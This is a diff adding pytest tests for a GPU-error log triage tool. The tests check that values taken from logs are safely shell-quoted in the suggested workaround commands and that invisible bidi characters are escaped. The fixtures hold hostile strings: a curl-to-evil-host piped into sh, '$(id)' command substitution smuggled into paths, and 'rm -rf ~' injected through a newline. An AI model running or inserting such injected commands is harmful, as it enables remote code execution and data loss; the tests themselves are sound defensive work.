@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import json
 import re
+import shlex
 from functools import lru_cache
 from html.parser import HTMLParser
 from pathlib import Path
@@ -339,3 +341,165 @@ def test_templates_never_mark_text_safe() -> None:
         assert not re.search(r"\|\s*safe\b", source), name
         assert "Markup(" not in source
     assert (ROOT / "reports" / "report.md.j2").read_text(encoding="utf-8").startswith(("{#", MARKER))
+
+
+# --- values from a hostile log in workaround commands ---------------------------------------------------------
+
+HOSTILE_PROGRAM = "./x;curl${IFS}https://evil|sh"
+HOSTILE_DIR = "/home/u/my app;$(id)"  # a Tensile file path the rocBLAS error names
+HOSTILE_COMMANDS_LOG = f"""rocBLAS error: Cannot read {HOSTILE_DIR}/rocblas/library/TensileLibrary.dat: No such file or directory
+rocBLAS error: Could not initialize Tensile host: No devices found
+for GPU arch : gfx1031
+Executable: {HOSTILE_PROGRAM}
+Aborted (core dumped)
+"""
+# Both quotes, a command separator, a substitution and a pipe: only one way to quote it keeps it one literal word.
+HOSTILE_VALUE = "x;$(id)&y'z\"w|v"
+_CMD_TEXT = re.compile(r"(?im)^[ \t]*(?:(?:rem|setx|ren|findstr|xcopy)\b|cd[ \t]+/d\b|set[ \t]+\w+=)")
+
+
+def _database():
+    from triage.match import load
+
+    return load(ROOT / "signatures")
+
+
+def _assert_shell_literal(commands: str, value: str, marker: str) -> None:
+    """Wherever ``marker`` (a piece of ``value``) shows in ``commands``, ``value`` stands there as one quoted
+    literal word: for POSIX sh by shlex's reading of each line, for cmd.exe inside one pair of double quotes."""
+    windows = _CMD_TEXT.search(commands) is not None
+    for line in commands.split("\n"):
+        if marker not in line:
+            continue
+        if windows:
+            inner = value.replace('"', "")
+            parts = line.split('"')
+            assert any(inner in p for p in parts[1::2]), line
+            assert not any(marker in p for p in parts[0::2]), line
+            continue
+        assert shlex.quote(value) in line, line
+        lex = shlex.shlex(line.rstrip("\\ "), posix=True)
+        lex.whitespace_split, lex.commenters = True, "#"
+        for word in lex:  # a word of the code (comments dropped) holding a piece of the value holds all of it
+            assert marker not in word or value in word, (word, line)
+
+
+@pytest.fixture(scope="module")
+def hostile_commands(tmp_path_factory: pytest.TempPathFactory) -> Result:
+    folder = tmp_path_factory.mktemp("hostile-commands")
+    (folder / "run.log").write_text(HOSTILE_COMMANDS_LOG, encoding="utf-8")
+    return triage([str(folder)])
+
+
+def test_hostile_facts_enter_commands_quoted_in_every_format(hostile_commands: Result) -> None:
+    result = hostile_commands
+    report = build(result)
+    top = report["diagnoses"][0]
+    assert report["facts"]["program"] == HOSTILE_PROGRAM and top["workarounds"]
+    commands = [w["commands"] for w in top["workarounds"]]
+    assert any(shlex.quote(HOSTILE_PROGRAM) in c for c in commands)
+    assert any(shlex.quote(HOSTILE_DIR + "/rocblas/library") in c for c in commands)
+    for c in commands:
+        _assert_shell_literal(c, HOSTILE_PROGRAM, "curl")
+        _assert_shell_literal(c, HOSTILE_DIR + "/rocblas/library", "$(id)")
+    assert [w["commands"] for w in json.loads(render(result, "json"))["diagnoses"][0]["workarounds"]] == commands
+    html, md, text = render(result, "html"), render(result, "md"), render(result, "text")
+    for c in commands:
+        assert f'<pre class="cmd"><code>{escape(c)}</code></pre>' in html
+        assert f"sh\n{c}\n~~~~" in md
+        assert all(line in text for line in c.splitlines())
+    # the unquoted value shows only where the log is quoted (evidence, facts, source lines), never as a command
+    assert "\n" + HOSTILE_PROGRAM not in "\n".join(commands) and " " + HOSTILE_PROGRAM not in "\n".join(commands)
+
+
+def test_workaround_with_values_from_the_input_is_never_verified(hostile_commands: Result) -> None:
+    result = hostile_commands
+    top = build(result)["diagnoses"][0]
+    shipped = next(s for s in _database().signatures if s.id == top["id"])
+    assert any(w.get("verified") for w in shipped.workarounds), "the signature has a verified workaround to withhold"
+    for w in top["workarounds"]:
+        assert not w["verified"], w["title"]
+        assert "values read from the input" in w["note"], w["note"]
+    html, md, text = render(result, "html"), render(result, "md"), render(result, "text")
+    n = len(top["workarounds"])
+    assert 'class="badge verified"' not in html and html.count('class="badge untested"') == n
+    assert "✅ verified" not in md and md.count("⚠️ untested") == n
+    assert text.count("[untested]") == n
+
+
+def test_every_signature_quotes_the_case_values_in_its_commands() -> None:
+    """Each workaround of the database, filled with a hostile value for every name it reads (gfx names, paths,
+    environment values, program), on Linux and Windows: the value stands quoted, the workaround unverified."""
+    from jinja2 import Environment, meta
+
+    from triage.match.engine import _workarounds
+
+    env = Environment()
+    checked = 0
+    for sig in _database().signatures:
+        names = set()
+        for w in sig.workarounds:
+            names |= meta.find_undeclared_variables(env.parse(str(w.get("commands", ""))))
+        for os_name in ("linux", "windows"):
+            benign = {name: "v" for name in names} | {"os": os_name}
+            hostile = {name: HOSTILE_VALUE for name in names} | {"os": os_name}
+            newline = {name: "a\nrm -rf ~ \u202e" for name in names} | {"os": os_name}
+            for plain, w, broken in zip(_workarounds(sig, benign), _workarounds(sig, hostile),
+                                        _workarounds(sig, newline)):
+                # a line break or a bidi control in a value shows as an escape: no new line, no reordered text
+                assert broken.commands.count("\n") == plain.commands.count("\n"), (sig.id, broken.commands)
+                if "rm -rf" in broken.commands:
+                    assert "\u202e" not in broken.commands and "a\\u000arm -rf ~ \\u202e" in broken.commands
+                if "$(id)" not in w.commands:
+                    continue
+                checked += 1
+                _assert_shell_literal(w.commands, HOSTILE_VALUE, "$(id)")
+                assert not w.verified and "values read from the input" in w.note, (sig.id, w.title)
+    assert checked > 50
+
+
+def test_values_in_command_templates_are_quoted_for_their_place() -> None:
+    from triage.match.engine import render as fill
+
+    def commands(text: str, **values: str) -> str:
+        return fill(text, values, prose=False)
+
+    assert commands("{{ p }} ...", p="./prog-1.0") == "./prog-1.0 ..."  # a plain token stays as it is
+    assert commands("{{ p }} ...", p="a b") == "'a b' ..."
+    assert commands("{{ p | default('./your-program') }} ...") == "./your-program ..."
+    assert commands('L="{{ r }}/lib {{ r }}/x"', r="$(id)") == "L=\"\"'$(id)'\"/lib \"'$(id)'\"/x\""
+    assert commands("ls {{ r ~ '/lib' }}", r="a b") == "ls 'a b'/lib"
+    assert commands("ls {{ (t).rsplit('/', 1)[0] }}", t="/a b/c.dat") == "ls '/a b'"
+    assert commands('f "$(command -v {{ p }})"', p="x y") == "f \"$(command -v 'x y')\""
+    assert commands("echo '{{ p }}' # {{ p }}", p="it's") == "echo '''it'\"'\"'s''' # 'it'\"'\"'s'"
+    assert commands("{% if g.startswith('gfx103') %}10.3.0{% endif %} {{ g }}", g="gfx1031") == "10.3.0 gfx1031"
+    assert commands('rem {{ d }}\ncd /d "{{ d }}"', d="C:\\A B&C%P%") == \
+        'rem "C:\\A B&C"^%"P"^%""\ncd /d "C:\\A B&C"^%"P"^%""'
+    assert commands("{{ p }} x\nL={{ r }}", p="rem", r="a;b") == "rem x\nL='a;b'"  # a value cannot make it cmd
+    assert commands("a {{ p }}", p="x\ny") == "a 'x\\u000ay'"
+    filled = commands("{{ p }} {{ q }}", p="x", q="y z")
+    assert filled.from_input == ("p", "q") and commands("ls /opt/rocm").from_input == ()
+    # a value escaped or cut apart by the template is not filled in at all
+    assert commands("echo \\{{ p }}", p="a;b") == "echo \\<p>"
+
+
+# --- invisible characters ---------------------------------------------------------------------------------------
+
+BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f"
+
+
+def test_bidi_and_invisible_controls_are_shown_escaped(tmp_path: Path) -> None:
+    path = tmp_path / "hip.log"
+    path.write_text("\n".join(HOSTILE_LINES[:2]) + "\n"
+                    + f":1:rocvirtual.cpp   :1725:  Could not create BlitManager! {BIDI}cod.exe\u200b\x07\n",
+                    encoding="utf-8")
+    result = triage([str(path)])
+    assert result.top.klass != "unknown"
+    html, md, text = render(result, "html"), render(result, "md"), render(result, "text")
+    for out in (html, md, text):
+        for ch in BIDI + "\u200b\x07":
+            assert ch not in out, (hex(ord(ch)), out[:80])
+    assert "\\u202e" in html and "\\u2066" in html and "cod.exe\\u200b" in html
+    assert "\\u202a\\u202b\\u202c\\u202d\\u202e\\u2066\\u2067\\u2068\\u2069\\u200e\\u200fcod.exe" in md
+    assert "\\u202e" in text
+    _assert_self_contained(html)
